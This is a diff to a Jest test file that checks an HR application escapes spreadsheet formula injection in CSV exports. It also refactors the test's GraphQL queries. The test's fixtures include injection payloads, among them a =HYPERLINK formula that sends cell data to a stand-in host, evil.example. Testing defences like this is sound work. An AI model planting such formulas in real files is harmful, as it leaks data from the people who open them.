@@ -4,7 +4,8 @@
  * plain numbers such as -5 stay numbers; importing our own file back gives the original values.
  */
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
-import { download, gql, gqlUpload, itFull, loginAs, startStack, type Stack } from '../support/stack';
+import { graphql } from '../generated';
+import { dataOf, download, gql, gqlUpload, itFull, loginAs, startStack, type Stack } from '../support/stack';
 
 let stack: Stack;
 let hr: string;
@@ -20,13 +21,13 @@ const SUM = '@SUM(1+1)';
 /** How each must appear in the file: quoted, inner quotes doubled, after a single quote. */
 const GUARDED = ['"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"', `"'${CMD}"`, `"'${SUM}"`];
 
-const IMPORT = `mutation Import($family: AttendanceFamily!, $month: String!, $file: Upload!) {
+const IMPORT = graphql(`mutation CsvImport($family: AttendanceFamily!, $month: String!, $file: Upload!) {
   importAttendance(family: $family, month: $month, file: $file) { ok errorCount errorFile { url } }
-}`;
+}`);
 
 async function importCsv(csv: string): Promise<{ ok: boolean; errorCount: number; errorFile: { url: string } | null }> {
   const res = await gqlUpload(stack, IMPORT, { family: 'AGENTS', month: '2022-09' }, { file: { name: 'attendance.csv', type: 'text/csv', content: csv } }, hr);
-  return res.data.importAttendance;
+  return dataOf(res).importAttendance;
 }
 
 const downloaded = async (url: string) => (await download(stack, url, hr)).text();
@@ -36,7 +37,7 @@ describe('CSV formula injection', () => {
     for (const [i, name] of [HYPERLINK, CMD, SUM].entries()) {
       const res = await gql(
         stack,
-        'mutation($input: EmployeeInput!) { addEmployee(input: $input) { id } }',
+        graphql(`mutation CsvAddEmployee($input: EmployeeInput!) { addEmployee(input: $input) { id } }`),
         {
           input: {
             name, resId: `EVIL-${i}`, email: `evil${i}@demo.hr`, departmentId: '2', teamId: '1', managerId: '8',
@@ -47,8 +48,8 @@ describe('CSV formula injection', () => {
       );
       expect(res.errors).toBeUndefined();
     }
-    const link = await gql(stack, '{ attendanceExport(family: AGENTS, month: "09-2022") { url } }', {}, hr);
-    const csv = await downloaded(link.data.attendanceExport.url);
+    const link = await gql(stack, graphql(`query CsvAttendanceExport { attendanceExport(family: AGENTS, month: "09-2022") { url } }`), {}, hr);
+    const csv = await downloaded(dataOf(link).attendanceExport.url);
     for (const guarded of GUARDED) expect(csv).toContain(`EVIL-${GUARDED.indexOf(guarded)},${guarded},`);
     for (const raw of [HYPERLINK, CMD, SUM]) expect(csv).not.toMatch(new RegExp(`(^|,)${raw.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`, 'm'));
   });
